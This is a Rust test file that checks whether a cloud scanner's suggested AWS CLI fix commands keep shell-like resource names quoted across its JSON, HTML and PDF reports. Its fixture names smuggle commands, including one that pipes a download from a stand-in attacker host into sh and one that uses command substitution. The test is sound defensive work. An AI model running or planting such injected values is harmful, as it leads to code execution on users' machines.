//! The fixes a report suggests are safe to paste: a resource name that is shell syntax stays
//! one argument of `aws`, in the JSON, the HTML and the PDF alike.

use std::path::Path;

use serde_json::{Value, json};

use crate::util::wellscan_in;

/// Legal alarm and log-group names that are also shell.
const NAMES: &[&str] = &[
    "cpu-high; curl -s https://evil.example/x | sh #",
    "app/$(touch pwned)/`touch pwned2`/it's \"quoted\"\nsecond line",
];

fn write_inventory(dir: &Path) {
    let text = r#"{"schema_version":1,"account_id":"123456789012","partition":"aws",
        "regions":["us-east-1"],"scanned_at":"2026-11-01T00:00:00Z","resources":[]}"#;
    let mut inventory: Value = serde_json::from_str(text).expect("json");
    let resources = inventory["resources"].as_array_mut().expect("resources");
    resources.push(json!({
        "kind": "cloudwatch_alarm", "id": NAMES[0], "region": "us-east-1",
        "arn": format!("arn:aws:cloudwatch:us-east-1:123456789012:alarm:{}", NAMES[0]),
        "namespace": "AWS/EC2", "metric_name": "CPUUtilization", "actions_enabled": false,
    }));
    resources.push(json!({
        "kind": "log_group", "id": NAMES[1], "region": "us-east-1",
        "arn": format!("arn:aws:logs:us-east-1:123456789012:log-group:{}", NAMES[1]),
        "stored_bytes": 5_000_000_000u64,
    }));
    std::fs::write(dir.join("inv.json"), inventory.to_string()).expect("write");
}

#[test]
fn a_suggested_command_keeps_a_hostile_name_one_argument_in_every_format() {
    let run = wellscan_in(
        &[
            "scan",
            "--inventory",
            "inv.json",
            "--out",
            "out",
            "--no-history",
            "--quiet",
        ],
        write_inventory,
    );
    run.assert_code(0);
    let out = run.tmp.path().join("out");
    let assessment = run.json(&out.join("assessment.json"));
    let html = std::fs::read_to_string(out.join("report.html")).expect("html");
    let pdf = wellscan_testkit::pdf_text(&out.join("report.pdf"));
    for name in NAMES {
        let findings: Vec<&Value> = assessment["findings"]
            .as_array()
            .expect("findings")
            .iter()
            .filter(|f| f["resource_id"] == *name)
            .collect();
        assert!(!findings.is_empty(), "no finding for {name:?}");
        for finding in findings {
            let remediation = finding["remediation"].as_str().expect("remediation");
            let (_, commands) = remediation.split_once("CLI: ").expect("a command");
            let dir = tempfile::tempdir().expect("temp dir");
            let pasted = wellscan_testkit::paste_into_shell(commands, dir.path());
            assert!(
                pasted.success && pasted.stderr.is_empty(),
                "{commands}\n{}",
                pasted.stderr
            );
            assert!(!dir.path().join("pwned").exists(), "{commands}");
            assert!(
                pasted.aws_calls.iter().flatten().any(|arg| arg == name),
                "{name:?} is not one argument of {:?}",
                pasted.aws_calls
            );
            // The page shows the same quoted command (escaped for HTML).
            let escaped = commands
                .replace('&', "&amp;")
                .replace('<', "&lt;")
                .replace('>', "&gt;")
                .replace('"', "&quot;");
            assert!(html.contains(&escaped), "the HTML lacks {commands}");
        }
    }
    // The PDF names the resources but prints no command; none unquoted, at least.
    assert!(pdf.contains("cpu-high;"), "the PDF names the alarm");
    assert!(!pdf.contains("--alarm-names cpu-high"), "{pdf}");
}
